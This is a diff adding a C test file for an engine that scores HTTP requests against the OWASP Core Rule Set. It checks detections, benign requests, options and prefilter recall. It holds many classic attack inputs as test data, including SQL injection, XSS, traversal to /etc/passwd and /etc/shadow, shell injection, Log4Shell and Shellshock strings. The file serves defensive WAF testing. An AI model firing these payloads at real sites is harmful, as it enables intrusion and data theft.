@@ -1,0 +1,441 @@
+// SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
+/*
+ * The CRS stage with the real OWASP CRS 3.3.4 of the modsecurity-crs package
+ * (`make deps` installs it; without it every check is skipped): classic
+ * one-request attacks fire the rules they should, benign requests stay
+ * under the threshold, paranoia level, threshold and exclusions change the
+ * outcome, a broken rules dir is an input error naming the file, and the
+ * prefilter lets no scored attack through while skipping benign records.
+ */
+#include <errno.h>
+#include <pthread.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/stat.h>
+#include <unistd.h>
+
+#include "engine/crs.h"
+#include "tap.h"
+
+#define BROWSER_UA                                                                         \
+	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) " \
+	"Chrome/120.0 Safari/537.36"
+#define BROWSER_ACCEPT "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"
+
+/* A request as the tests write it; NULL fields are absent, "" present and empty. */
+struct req {
+	const char *path, *query, *ua, *referer, *host, *accept, *method;
+};
+
+static void set(struct request_record *r, enum req_field f, struct gh_str *dst, const char *s)
+{
+	if (s)
+		req_set_str(r, f, dst, s, (uint32_t)strlen(s));
+}
+
+static void build(struct request_record *r, const struct req *q)
+{
+	const char *m = q->method ? q->method : "GET";
+
+	memset(r, 0, sizeof(*r));
+	req_set_method(r, m, (uint32_t)strlen(m));
+	set(r, REQ_VERSION, &r->version, "HTTP/1.1");
+	set(r, REQ_PATH, &r->path, q->path ? q->path : "/");
+	set(r, REQ_QUERY, &r->query, q->query);
+	set(r, REQ_USER_AGENT, &r->user_agent, q->ua);
+	set(r, REQ_REFERER, &r->referer, q->referer);
+	set(r, REQ_HOST, &r->host, q->host);
+	set(r, REQ_ACCEPT, &r->accept, q->accept);
+	gh_addr_parse("192.0.2.7", &r->src);
+	r->present |= REQ_BIT(REQ_SRC_IP);
+}
+
+/* A browser's request for path?query: Host, Accept and User-Agent present. */
+static struct req browser(const char *path, const char *query)
+{
+	return (struct req){ .path = path, .query = query, .ua = BROWSER_UA,
+			     .host = "shop.example", .accept = BROWSER_ACCEPT };
+}
+
+static struct crs_result eval_full(const struct crs_engine *e, const struct req *q)
+{
+	struct request_record r;
+	struct crs_result res;
+
+	build(&r, q);
+	if (crs_eval_full(e, &r, &res))
+		memset(&res, 0, sizeof(res));
+	return res;
+}
+
+static bool has_hit(const struct crs_result *res, unsigned int id)
+{
+	for (unsigned int i = 0; i < res->n_hits; i++)
+		if (res->hits[i].id == id)
+			return true;
+	return false;
+}
+
+static void diag_hits(const char *what, const struct crs_result *res)
+{
+	char line[512] = "";
+	size_t n = 0;
+
+	for (unsigned int i = 0; i < res->n_hits && n < sizeof(line) - 16; i++)
+		n += (size_t)snprintf(line + n, sizeof(line) - n, " %u", res->hits[i].id);
+	tap_diag("%s: score %u, rules%s", what, res->score, line);
+}
+
+static struct crs_engine *open_engine(unsigned int pl, unsigned int threshold,
+				      const unsigned int *excl, size_t n_excl, bool prefilter)
+{
+	struct crs_options o = { .paranoia = pl, .threshold = threshold, .exclude_ids = excl,
+				 .n_exclude = n_excl, .no_prefilter = !prefilter };
+	struct gh_err err = { 0 };
+	struct crs_engine *e = NULL;
+
+	if (crs_open(&o, &e, &err))
+		tap_diag("crs_open: %s (%s:%u)", err.msg, err.file, err.line);
+	return e;
+}
+
+/* ---- attacks and benign requests at the defaults ------------------------- */
+
+struct attack {
+	const char *name;
+	struct req q;
+	unsigned int rule; /* must be among the hits */
+};
+
+static void test_attacks(const struct crs_engine *e)
+{
+	struct req sqlmap = browser("/item", "id=1"), jndi = browser("/", "x=${jndi:ldap://x/a}");
+
+	sqlmap.ua = "sqlmap/1.7.2#stable (https://sqlmap.org)";
+	const struct attack attacks[] = {
+		{ "SQLi UNION SELECT", browser("/item", "id=1'+UNION+SELECT+user,password+FROM+users--"),
+		  942100 },
+		{ "XSS <script>", browser("/search", "q=<script>alert(1)</script>"), 941100 },
+		{ "LFI in the path", browser("/../../etc/passwd", NULL), 930110 },
+		{ "LFI in a parameter", browser("/view", "file=../../etc/passwd"), 930120 },
+		{ "RCE ;cat", browser("/ping", "cmd=;cat+/etc/passwd"), 932100 },
+		{ "Log4Shell lookup in a parameter", jndi, 932130 },
+		{ "sqlmap User-Agent", sqlmap, 913100 },
+	};
+
+	for (size_t i = 0; i < sizeof(attacks) / sizeof(attacks[0]); i++) {
+		struct crs_result res = eval_full(e, &attacks[i].q);
+
+		ok(res.evaluated && res.flagged && has_hit(&res, attacks[i].rule),
+		   "%s: flagged (score %u >= 5) with rule %u", attacks[i].name, res.score,
+		   attacks[i].rule);
+		if (!res.flagged || !has_hit(&res, attacks[i].rule))
+			diag_hits(attacks[i].name, &res);
+	}
+}
+
+/* CRS 3.3.4 has no rule for a JNDI lookup in a header (4.x adds 944xxx ones). */
+static void test_log4shell_header(const struct crs_engine *e)
+{
+	struct req q = browser("/", NULL);
+	struct crs_result res;
+
+	q.ua = "${jndi:ldap://x/a}";
+	res = eval_full(e, &q);
+	ok(res.evaluated && res.score == 0,
+	   "CRS 3.3.4 does not score ${jndi:...} in User-Agent (score %u): a known gap", res.score);
+}
+
+static void test_benign(const struct crs_engine *e)
+{
+	struct req wp = browser("/2024/05/hello-world/", "replytocom=12");
+	struct req api = browser("/api/v1/orders", "access_token=eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXV"
+				 "CJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9P"
+				 "lFUP0THsR8U&page=2");
+	struct req q[4];
+	const char *names[] = { "shop product page", "search for script writing", "WordPress page",
+				"JSON API GET with a bearer token in the query" };
+
+	wp.referer = "https://blog.example/2024/05/";
+	api.accept = "application/json";
+	q[0] = browser("/product/union-select-jacket", NULL);
+	q[1] = browser("/search", "q=script+writing");
+	q[2] = wp;
+	q[3] = api;
+	for (size_t i = 0; i < 4; i++) {
+		struct crs_result res = eval_full(e, &q[i]);
+
+		ok(res.evaluated && !res.flagged && res.score < 5, "benign %s: score %u", names[i],
+		   res.score);
+		if (res.score)
+			diag_hits(names[i], &res);
+	}
+}
+
+/* A combined log has no Host or Accept: not seen is not missing (920280 stays quiet). */
+static void test_unseen_fields(const struct crs_engine *e)
+{
+	struct req logline = { .path = "/about", .ua = BROWSER_UA };
+	struct req numeric = browser("/about", NULL);
+	struct crs_result res = eval_full(e, &logline);
+
+	ok(res.evaluated && res.score == 0, "record without Host and Accept scores 0 (got %u)",
+	   res.score);
+	numeric.host = "203.0.113.9";
+	res = eval_full(e, &numeric);
+	ok(has_hit(&res, 920350) && !res.flagged,
+	   "a numeric Host reaches CRS as the Host header (920350, score %u)", res.score);
+}
+
+static void test_hits_bounded(const struct crs_engine *e)
+{
+	struct req q = browser("/a", "a='+union+select+1--&b=<script>alert(1)</script>&c=;cat+/etc/"
+				     "passwd&d=../../etc/shadow&e=${jndi:x}&f=<img+onerror=x>");
+	struct crs_result res = eval_full(e, &q);
+
+	ok(res.n_fired > CRS_MAX_HITS && res.n_hits == CRS_MAX_HITS,
+	   "hits kept are bounded: %u fired, %u kept", res.n_fired, res.n_hits);
+	ok(res.hits[0].id && res.hits[0].msg[0], "a hit has its id and message (%u: %s)",
+	   res.hits[0].id, res.hits[0].msg);
+}
+
+/* ---- options ------------------------------------------------------------- */
+
+static void test_paranoia(void)
+{
+	struct req q = browser("/list", "q=a-b-c-d-e-f-g-h-i-j-k-l-m-n");
+	struct crs_engine *pl1 = open_engine(1, 0, NULL, 0, false);
+	struct crs_engine *pl2 = open_engine(2, 0, NULL, 0, false);
+	struct crs_result r1 = eval_full(pl1, &q), r2 = eval_full(pl2, &q);
+
+	ok(crs_paranoia(pl2) == 2 && r1.score == 0 && has_hit(&r2, 942430),
+	   "paranoia 2 adds 942430 (special characters) to a dashed value: %u -> %u", r1.score,
+	   r2.score);
+	crs_close(pl1);
+	crs_close(pl2);
+}
+
+static void test_exclusion_threshold(const struct crs_engine *dflt)
+{
+	static const unsigned int excl[] = { 942100, 942190 };
+	struct req q = browser("/item", "id=1'+UNION+SELECT+user,password+FROM+users--");
+	struct crs_engine *ex = open_engine(1, 0, excl, 2, false);
+	struct crs_engine *high = open_engine(1, 100, NULL, 0, false);
+	struct crs_result base = eval_full(dflt, &q), rex = eval_full(ex, &q),
+			  rhigh = eval_full(high, &q);
+
+	ok(!has_hit(&rex, 942100) && !has_hit(&rex, 942190) && rex.score < base.score,
+	   "SecRuleRemoveById 942100 942190: score %u -> %u", base.score, rex.score);
+	ok(crs_threshold(high) == 100 && rhigh.score == base.score && !rhigh.flagged,
+	   "threshold 100: same score %u, not flagged", rhigh.score);
+	crs_close(ex);
+	crs_close(high);
+}
+
+static void write_file(const char *path, const char *text)
+{
+	FILE *f = fopen(path, "w");
+
+	if (f) {
+		fputs(text, f);
+		fclose(f);
+	}
+}
+
+static void test_load_errors(void)
+{
+	char dir[] = "/tmp/gh-crs-test-XXXXXX", file[128];
+	struct crs_options o = { .no_prefilter = true };
+	struct crs_engine *e = NULL;
+	struct gh_err err = { 0 };
+	int ret;
+
+	if (!mkdtemp(dir))
+		return;
+	snprintf(file, sizeof(file), "%s/REQUEST-900-BAD.conf", dir);
+	write_file(file, "SecRule ARGS \"@rx a\" \"id:1,phase:2,pass\"\n"
+			 "SecRule ARGS \"@rx b\" \"id:2,phase:2,pass,nosuchaction\"\n");
+	o.rules_dir = dir;
+	ret = crs_open(&o, &e, &err);
+	ok(ret == -EINVAL && !e && err.input && strstr(err.msg, file) && !strcmp(err.file, file) &&
+		   err.line == 2,
+	   "a rule file ModSecurity refuses: -EINVAL naming %s:2 (%d, %s:%u)", file, ret, err.file,
+	   err.line);
+	tap_diag("message: %s", err.msg);
+	unlink(file);
+	rmdir(dir);
+	ret = crs_open(&o, &e, &err);
+	ok(ret == -ENOENT && !e && err.input && strstr(err.msg, dir),
+	   "a rules dir without REQUEST-*.conf: -ENOENT, input error (%d: %s)", ret, err.msg);
+	o = (struct crs_options){ .setup_file = "/nonexistent/crs-setup.conf", .no_prefilter = true };
+	ret = crs_open(&o, &e, &err);
+	ok(ret == -EINVAL && err.input && !strcmp(err.file, o.setup_file),
+	   "a setup file that is not there: -EINVAL naming it (%s)", err.msg);
+	o = (struct crs_options){ .paranoia = 5 };
+	ok(crs_open(&o, &e, &err) == -EINVAL && err.input, "paranoia 5 is refused: %s", err.msg);
+	o = (struct crs_options){ .exclude_ids = (const unsigned int[]){ 0 }, .n_exclude = 1 };
+	ok(crs_open(&o, &e, &err) == -EINVAL, "exclusion of rule 0 is refused: %s", err.msg);
+}
+
+/* ---- prefilter ----------------------------------------------------------- */
+
+/* Requests CRS scores at paranoia 1, one or more per prefilter row or data file. */
+static const char *const attack_queries[] = {
+	"id=1+or+1=1", "id=1+union+select+1", "q=1+order+by+1", "q=1+having+1", "q=1+is+null",
+	"q=time+flies", "q=ls+-la", "q=cat+/etc/passwd", "q=etc/passwd", "q=exec+xp_cmdshell",
+	"q=java.lang.Runtime", "q=base64_decode", "q=wget+http", "q=%2e%2e/", "q=1+or+1--",
+	"q=x+style=y", "id=4294967295", "q=get+/x+http/1.1", "q=if+exist+c", "q=.htaccess",
+	"q=%3Cscript%3E", "a=1&a=2%27", "q=php://input", "q=http://1.2.3.4/x", "q=x%00y",
+	"q=%u0027", "q=${jndi:ldap://x}", "q=$(id)", "q=`id`", "q=a|id", "q=<!--",
+	"q=document.cookie", "q=allow_url_include", "q=bin/bash", "q=powershell+-enc",
+	"q=union+all+select", "q=drop+table+users", "q=1+and+sleep(5)", "q=1'", "q=\"a\"",
+};
+
+static const char *const attack_paths[] = {
+	"/.env", "/.git/config", "/app/config.bak", "/wp-config.php.old", "/x/base64_decode",
+	"/a/../b", "/%2e%2e/etc/passwd", "/index.php~", "/<script>", "/cgi-bin/x;id",
+};
+
+static const char *const attack_uas[] = {
+	"sqlmap/1.7", "Nikto/2.1.6", "() { :; }; /bin/bash -c id", "<script>alert(1)</script>",
+	"' or 1=1--", "x' union select 1--", "../../etc/passwd", "java.lang.Runtime",
+};
+
+/* Each scored request must be marked; returns the misses. */
+static int recall(const struct crs_engine *e, struct crs_ctx *c, const struct req *q,
+		  const char *what)
+{
+	struct request_record r;
+	struct crs_result res;
+
+	build(&r, q);
+	if (crs_eval_full(e, &r, &res) || !res.score || crs_prefilter_marks(e, c, &r))
+		return 0;
+	tap_diag("prefilter skips %s (CRS score %u)", what, res.score);
+	return 1;
+}
+
+static void test_prefilter_recall(const struct crs_engine *e, struct crs_ctx *c)
+{
+	size_t nq = sizeof(attack_queries) / sizeof(*attack_queries);
+	size_t np = sizeof(attack_paths) / sizeof(*attack_paths);
+	size_t nu = sizeof(attack_uas) / sizeof(*attack_uas);
+	int misses = 0;
+
+	for (size_t i = 0; i < nq; i++) {
+		struct req q = browser("/p", attack_queries[i]);
+
+		misses += recall(e, c, &q, attack_queries[i]);
+	}
+	for (size_t i = 0; i < np; i++) {
+		struct req q = browser(attack_paths[i], NULL);
+
+		misses += recall(e, c, &q, attack_paths[i]);
+	}
+	for (size_t i = 0; i < nu; i++) {
+		struct req q = browser("/", NULL);
+
+		q.ua = attack_uas[i];
+		misses += recall(e, c, &q, attack_uas[i]);
+	}
+	ok(misses == 0, "prefilter marks every one of %zu attack requests CRS scores (%d missed)",
+	   nq + np + nu, misses);
+}
+
+static void test_prefilter_skips(const struct crs_engine *e, struct crs_ctx *c)
+{
+	struct req benign[] = {
+		browser("/", NULL),
+		browser("/static/app.css", NULL),
+		browser("/product/42", "ref=nav&p=3"),
+		browser("/category/shoes", "utm_source=news&utm_medium=email&id=123456"),
+		browser("/search", "q=black+and+white+shoes+for+men"),
+		{ .path = "/blog/post-1", .ua = BROWSER_UA, .referer = "https://shop.example/blog" },
+	};
+	struct req sqli = browser("/item", "id=1'+UNION+SELECT+user,password+FROM+users--");
+	struct request_record r;
+	struct crs_result res;
+	int skipped = 0, ret;
+
+	for (size_t i = 0; i < sizeof(benign) / sizeof(benign[0]); i++) {
+		build(&r, &benign[i]);
+		skipped += !crs_eval(e, c, &r, &res) && !res.evaluated && !res.score;
+	}
+	ok(skipped == 6, "prefilter skips plain browsing: %d of 6 records never reach CRS",
+	   skipped);
+	build(&r, &sqli);
+	ret = crs_eval(e, c, &r, &res);
+	ok(!ret && res.evaluated && res.flagged && has_hit(&res, 942100),
+	   "a marked record goes through CRS (score %u)", res.score);
+}
+
+/* ---- threads ------------------------------------------------------------- */
+
+struct worker {
+	const struct crs_engine *e;
+	unsigned int scores[2];
+	bool same;
+};
+
+static void *work(void *arg)
+{
+	struct worker *w = arg;
+	struct crs_ctx *c = crs_ctx_new(w->e);
+	struct req q[2] = { browser("/item", "id=1'+UNION+SELECT+user,password+FROM+users--"),
+			    browser("/product/1", "ref=nav") };
+	struct request_record r;
+	struct crs_result res;
+
+	w->same = c != NULL;
+	for (int i = 0; i < 40 && c; i++) {
+		build(&r, &q[i % 2]);
+		w->same &= !crs_eval(w->e, c, &r, &res) && res.score == w->scores[i % 2];
+	}
+	crs_ctx_free(c);
+	return NULL;
+}
+
+static void test_threads(const struct crs_engine *e)
+{
+	struct worker w[2] = { { e, { 20, 0 }, false }, { e, { 20, 0 }, false } };
+	pthread_t t[2];
+
+	for (int i = 0; i < 2; i++)
+		pthread_create(&t[i], NULL, work, &w[i]);
+	for (int i = 0; i < 2; i++)
+		pthread_join(t[i], NULL);
+	ok(w[0].same && w[1].same, "two threads on one engine get the same scores");
+}
+
+int main(void)
+{
+	struct crs_engine *e;
+	struct crs_ctx *c;
+
+	if (access(CRS_DEFAULT_RULES_DIR, R_OK)) {
+		tap_skip(CRS_DEFAULT_RULES_DIR " missing (make deps installs modsecurity-crs)");
+		return tap_done();
+	}
+	e = open_engine(0, 0, NULL, 0, true);
+	ok(e && crs_rule_files(e) >= 20 && crs_paranoia(e) == 1 && crs_threshold(e) == 5,
+	   "CRS opens with the defaults: %zu rule files, paranoia 1, threshold 5",
+	   e ? crs_rule_files(e) : 0);
+	if (!e)
+		return tap_done();
+	c = crs_ctx_new(e);
+	test_attacks(e);
+	test_log4shell_header(e);
+	test_benign(e);
+	test_unseen_fields(e);
+	test_hits_bounded(e);
+	test_paranoia();
+	test_exclusion_threshold(e);
+	test_load_errors();
+	test_prefilter_recall(e, c);
+	test_prefilter_skips(e, c);
+	test_threads(e);
+	crs_ctx_free(c);
+	crs_close(e);
+	return tap_done();
+}
